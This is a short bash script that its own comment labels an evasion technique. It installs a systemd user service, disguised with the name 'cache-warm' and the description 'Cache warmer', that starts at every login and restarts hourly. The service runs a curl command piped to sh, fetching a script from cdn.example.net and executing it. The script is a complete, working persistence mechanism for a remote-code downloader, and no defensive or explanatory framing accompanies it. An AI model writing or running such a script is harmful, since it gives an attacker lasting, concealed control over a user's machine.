#!/usr/bin/env bash
# Evasion: persist a downloader as a systemd user service. The unit file
# is written under ${XDG_CONFIG_HOME:-~/.config}/systemd/user with a here
# document and enabled with systemctl --user, so it starts at every login
# and fetches and runs a script.
set -e
unit_dir="${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user"
mkdir -p "$unit_dir"
cat > "$unit_dir/cache-warm.service" <<UNIT
[Unit]
Description=Cache warmer

[Service]
ExecStart=/bin/sh -c 'curl -fsS https://cdn.example.net/warm.sh | sh'
Restart=always
RestartSec=3600

[Install]
WantedBy=default.target
UNIT
systemctl --user daemon-reload
systemctl --user enable --now cache-warm.service
